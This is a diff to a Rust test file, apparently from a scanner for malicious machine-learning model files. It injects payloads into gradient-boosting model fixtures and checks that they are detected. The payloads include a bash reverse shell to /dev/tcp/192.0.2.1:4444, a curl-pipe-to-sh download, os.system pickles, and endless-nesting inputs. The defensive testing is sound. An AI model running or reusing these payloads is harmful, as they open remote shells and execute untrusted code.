@@ -1,4 +1,4 @@
-//! Files of values: MessagePack, Arrow, Parquet.
+//! Files of values: MessagePack, Arrow, Parquet, models of gradient boosting; and formats that run when they are loaded.
 
 use weighhouse_formats::build::msgpack::{array, bytes, extension, list, map, text};
 use weighhouse_formats::build::pickle::Assembler;
@@ -93,4 +93,74 @@ fn tables_that_carry_a_payload() {
     samples.push(("a pickle before the footer of a file", wedge("plain.arrow", 10)));
     samples.push(("a pickle before the footer of columns", wedge("groups.parquet", 8)));
     assert_seen("tables", &under(&["train.parquet", "data.arrow", "part"], samples));
+}
+
+/// A model of a library, with a text of it replaced.
+fn changed(name: &str, from: &[u8], to: &[u8]) -> Vec<u8> {
+    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../weighhouse-formats/tests/fixtures/boosting");
+    let whole = std::fs::read(folder.join(name)).expect("a fixture");
+    let at = whole.windows(from.len()).position(|part| part == from).expect("the text is there");
+    [&whole[..at], to, &whole[at + from.len()..]].concat()
+}
+
+#[test]
+fn models_of_gradient_boosting_that_carry_a_payload() {
+    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
+    let texts: [&[u8]; 4] = [
+        b"__import__('os').system('id')",
+        b"curl -s http://example.org/x | sh",
+        b"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+        b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+    ];
+    let mut samples = Vec::new();
+    for text in texts {
+        let counted = [b"SL".as_slice(), &(text.len() as u64).to_be_bytes(), text].concat();
+        let ubj = changed("xgboost.ubj", b"SL\0\0\0\0\0\0\0\x07a model", &counted);
+        samples.push(Sample::new("an attribute of XGBoost", "model.ubj", ubj));
+        let json = changed("xgboost.json", b"a model", text);
+        samples.push(Sample::new("an attribute of XGBoost", "model.json", json));
+        let parameter = [b"[objective: ".as_slice(), text, b"]"].concat();
+        let lightgbm = changed("lightgbm.txt", b"[objective: binary]", &parameter);
+        samples.push(Sample::new("a parameter of LightGBM", "model.txt", lightgbm));
+        let hook = [b"hook=".as_slice(), text, b"\nshrinkage="].concat();
+        samples.push(Sample::new(
+            "a key of LightGBM",
+            "model.txt",
+            changed("lightgbm.txt", b"shrinkage=", &hook),
+        ));
+    }
+    let tails = [("xgboost.ubj", "}}"), ("catboost.cbm", "CBM1")];
+    for (name, mark) in tails {
+        let whole = changed(name, mark.as_bytes(), mark.as_bytes());
+        samples.push(Sample::new("a pickle behind", name, [whole.as_slice(), &pickle].concat()));
+    }
+    let leaves = changed("lightgbm.txt", b"num_leaves=3", b"num_leaves=2147483647");
+    samples.push(Sample::new("a tree of LightGBM that lies", "model.txt", leaves));
+    let endless = [b"{i\x07learner".as_slice(), &vec![b'['; 50_000]].concat();
+    samples.push(Sample::new("endless nesting", "model.ubj", endless));
+    let count = b"{i\x07learner[$l#L\x7f\xff\xff\xff\xff\xff\xff\xff".to_vec();
+    samples.push(Sample::new("an endless list", "model.ubj", count));
+    assert_seen("gradient boosting", &samples);
+}
+
+#[test]
+fn formats_that_run_when_they_are_loaded() {
+    let beginnings: [(&str, &[u8]); 8] = [
+        ("Java", b"\xac\xed\0\x05sr\0\x11java.util.HashMap"),
+        (".NET", b"\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c\x02\0\0\0"),
+        ("Ruby", b"\x04\x08o:\x13Gem::Requirement\x06"),
+        ("PHP", b"O:8:\"Exploit_\":1:{s:3:\"cmd\";s:2:\"id\";}"),
+        ("Lua", b"\x1bLua\x53\0\x19\x93\r\n\x1a\n\x04\x08"),
+        ("Torch7", b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1\x0d\0\0\0nn.Sequential"),
+        ("TensorRT", b"ptrt\xef\0\0\0\0\0\0\0"),
+        ("RKNN", b"RKNN\0\0\0\0\x06\0\0\0"),
+    ];
+    let samples: Vec<Sample> = beginnings
+        .iter()
+        .flat_map(|(title, bytes)| {
+            ["model.bin", "model"].map(|name| Sample::new(*title, name, bytes.to_vec()))
+        })
+        .collect();
+    assert_seen("formats that run", &samples);
 }
